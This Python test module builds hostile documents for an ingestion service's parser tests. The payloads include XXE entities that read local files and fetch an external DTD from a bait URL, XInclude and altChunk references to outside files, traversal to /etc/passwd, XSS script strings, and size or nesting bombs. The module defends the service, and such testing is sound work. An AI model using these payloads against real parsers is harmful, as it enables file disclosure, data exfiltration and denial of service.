"""Office files, mails and texts of the kinds that public weaknesses of other parsers were made with.

Whatever comes of one is said by name, as in drawn_weaknesses.py (CWE-400, 409, 611, 674, 776, 835).
"""

import struct
from collections.abc import Sequence

from tests.services.ingest.hostile.case import Bait, Case, plainly
from tests.services.ingest.hostile.mails import _HEAD, attached, mixed
from tests.services.ingest.hostile.office import _PARAGRAPH, cell, docx, docx_parts, odt, xlsx
from tests.support.compound import compound
from tests.support.zips import zipped

NO_OFFICE = ("damaged", "document-type", "unread-parts", "empty-document", "archive-bomb", "archive-names")


def in_another_encoding(bait: Bait, encoding: str) -> bytes:
    """A document type that who looks for `<!DOCTYPE` in bytes does not see."""
    words = (
        f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE x [<!ENTITY f SYSTEM "file://{bait.file}">'
        f'<!ENTITY % p SYSTEM "{bait.url}/a">%p;]><w:document xmlns:w='
        '"http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Gants. &f;</w:t></w:r>'
        "</w:p></w:body></w:document>"
    )
    return zipped({**docx_parts(""), "word/document.xml": words.encode(encoding)})


def included(bait: Bait) -> bytes:
    part = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{bait.file}" parse="text"/>'
    return docx(_PARAGRAPH + part)


def chunks_of_chunks(depth: int) -> bytes:
    """A document that is made of a document, and so on."""
    data = docx()
    for _ in range(depth):
        relations = (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="c"'
            ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="a.docx"/>'
            "</Relationships>"
        )
        parts = {"word/_rels/document.xml.rels": relations.encode(), "word/a.docx": data}
        data = docx(_PARAGRAPH + '<w:altChunk r:id="c"/>', parts=parts)
    return data


def chunk_outside(bait: Bait) -> bytes:
    each = "".join(
        f'<Relationship Id="c{n}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk"'
        f' Target="{target}" TargetMode="{mode}"/>'
        for n, (target, mode) in enumerate(
            [
                (f"file://{bait.file}", "External"),
                (f"{bait.url}/a.docx", "External"),
                ("../../" + bait.file, "Internal"),
            ]
        )
    )
    relations = (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{each}</Relationships>'
    )
    chunks = "".join(f'<w:altChunk r:id="c{n}"/>' for n in range(3))
    return docx(_PARAGRAPH + chunks, parts={"word/_rels/document.xml.rels": relations.encode()})


def spans(_: Bait) -> bytes:
    wide = '<w:tc><w:tcPr><w:gridSpan w:val="2147483647"/><w:vMerge w:val="restart"/></w:tcPr>' + _PARAGRAPH + "</w:tc>"
    return docx(f"<w:tbl><w:tr>{wide}{wide}</w:tr></w:tbl>{_PARAGRAPH}")


def many_announced(_: Bait) -> bytes:
    strings = (
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="4294967295"'
        ' uniqueCount="4294967295"><si><t>a</t></si></sst>'
    )
    return xlsx(cell("Porter des gants."), parts={"xl/sharedStrings.xml": strings.encode()})


def odd_cells(_: Bait) -> bytes:
    cells = "".join(
        f'<c r="{column}1" s="99999999" t="{kind}"><v>{value}</v></c>'
        for column, kind, value in [
            ("A", "n", "1e308"), ("B", "n", "-1e308"), ("C", "n", "NaN"), ("D", "d", "9999999-99-99"),
            ("E", "s", "4294967295"), ("F", "s", "-1"), ("G", "b", "7"), ("H", "e", "#N/A"), ("I", "zz", "x"),
        ]
    )  # fmt: skip
    return xlsx(f'<row r="1">{cells}</row>' + cell("Porter des gants.", 2))


def zip64(_: Bait) -> bytes:
    """An end of the directory that says more parts than there can be."""
    data = docx()
    at = data.rindex(b"PK\x05\x06")
    return data[: at + 8] + struct.pack("<HHII", 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF) + data[at + 20 :]


def tnef(length: int) -> bytes:
    data = struct.pack("<IHBII", 0x223E9F78, 1, 1, 0x00069003, length) + bytes(64)
    return mixed([attached(data, b"winmail.dat", b"application/ms-tnef")])


def packed_rtf(_: Bait) -> bytes:
    """Words of a message that say to be 4 GB, unpacked."""
    held = struct.pack("<IIII", 0xFFFFFFF0, 0xFFFFFFFF, 0x75465A4C, 0) + b"\x00" * 400
    return compound(
        {"__substg1.0_0037001F": "Consignes".encode("utf-16-le"), "__substg1.0_10090102": held,
         "__properties_version1.0": bytes(32)}
    )  # fmt: skip


def messages_within(depth: int) -> bytes:
    tree: dict[str, object] = {}
    for _ in range(depth):
        head = {"__substg1.0_0037001F": "Suite".encode("utf-16-le"), "__properties_version1.0": bytes(32)}
        inner = {"__properties_version1.0": bytes(8), "__substg1.0_3701000D": tree or dict(head)}
        tree = {**head, "__attach_version1.0_#00000000": inner}
    return compound(tree)  # type: ignore[arg-type]  # trees of trees


def continued(_: Bait) -> bytes:
    part = attached(b"Texte.", b"a.txt").replace(b'filename="a.txt"', b"filename*999999999*=utf-8''a; filename*0=b.txt")
    return mixed([part, attached(b"Texte.", b"a.txt").replace(b'"a.txt"', b'"a.txt"' + b"; filename*1=x" * 20_000)])


_OBJECT = (
    'Gants.<draw:frame xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"'
    ' xmlns:xlink="http://www.w3.org/1999/xlink"><draw:object xlink:href="./"/>'
    '<draw:object xlink:href="../../etc/passwd"/></draw:frame>'
)
_ESCAPES = (
    b'<html><head><meta charset="iso-2022-jp"></head><body><p>Gants \x1b$B%s%s \x1b(J'
    b"<script>alert(1)</script></p></body></html>"
)
_UTF7 = b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"
_DEEP_QUOTES = b"> - " * 5_000 + b"Gants."

CASES: Sequence[Case] = (
    Case("entities in UTF-16", "utf16.docx", lambda bait: in_another_encoding(bait, "utf-16"), NO_OFFICE),
    Case("entities in UTF-7", "utf7.docx", lambda bait: in_another_encoding(bait, "utf-7"), NO_OFFICE),
    Case("entities in EBCDIC", "ebcdic.docx", lambda bait: in_another_encoding(bait, "cp037"), NO_OFFICE),
    Case("an inclusion of a file", "inclus.docx", included),
    Case(
        "documents within documents, 100 deep",
        "poupees.docx",
        lambda _: chunks_of_chunks(100),
        ("read", "archive-bomb"),
    ),
    Case("chunks from elsewhere", "morceaux.docx", chunk_outside),
    Case("a cell as wide as 2 thousand million", "large.docx", spans),
    Case("4 thousand million strings announced", "chaines2.xlsx", many_announced),
    Case("numbers, days and styles that are none", "cellules.xlsx", odd_cells),
    Case("more parts than there can be", "zip64.docx", zip64, ("damaged", "archive-bomb", "unsupported-media-type")),
    Case(
        "a script before a document",
        "polyglotte.docx",
        plainly(b"#!/bin/sh\nexit\n" + docx()),
        ("read", "damaged", "binary", "unsupported-media-type"),
    ),
    Case(
        "an object that is itself",
        "objet.odt",
        plainly(odt(_OBJECT)),
        ("read",),
    ),
    Case("a winmail.dat of 4 GB", "winmail.eml", plainly(tnef(2**32 - 1))),
    Case("words packed to 4 GB", "rtf.msg", packed_rtf, ("read", "damaged", "empty-document")),
    Case(
        "messages within messages, 60 deep",
        "poupees.msg",
        lambda _: messages_within(60),
        ("read", "damaged", "empty-document"),
    ),
    Case("a name in a thousand million pieces", "noms.eml", continued),
    Case(
        "words in UTF-7",
        "utf7.eml",
        plainly(_HEAD + b"Content-Type: text/html; charset=utf-7\r\n\r\n" + _UTF7 + b"Gants."),
    ),
    Case(
        "a charset that changes by escapes",
        "iso2022.html",
        plainly(_ESCAPES),
        ("read", "not-text", "encoding", "binary"),
    ),
    Case(
        "templates within templates",
        "modeles.html",
        lambda _: b"<template><svg><math><mtext>" * 20_000 + b"<p>Gants.",
        ("read", "damaged", "empty-document"),
    ),
    Case(
        "numbers of characters that are none",
        "entites.html",
        plainly(b"<p>Gants &#0; &#x110000; &#xD800; &#99999999999999999999; &#x1b;[31m</p>"),
    ),
    Case("quotes and lists within each other", "melange.md", plainly(_DEEP_QUOTES)),
    Case(
        "declarations that never end",
        "declarations.md",
        lambda _: b"<?a " * 100_000 + b"<!A " * 100_000 + b"<![CDATA[ " * 100_000,
    ),
    Case("definitions that never end", "definitions.md", lambda _: b"[a]: <" * 100_000 + b"\n[^1]: a" * 50_000),
    Case(
        "UTF-32 and two marks of order",
        "ordre.txt",
        plainly("\ufeff\ufeffPorter des gants.".encode("utf-32")),
        ("read", "encoding", "binary"),
    ),
    Case(
        "a million fields of one letter",
        "champs.csv",
        lambda _: b'"a""";' * 500_000 + b"\n" + b'"=1+1";' * 10,
        ("read", "too-many-cells", "damaged", "binary", "not-text", "cell-too-long"),
    ),
)
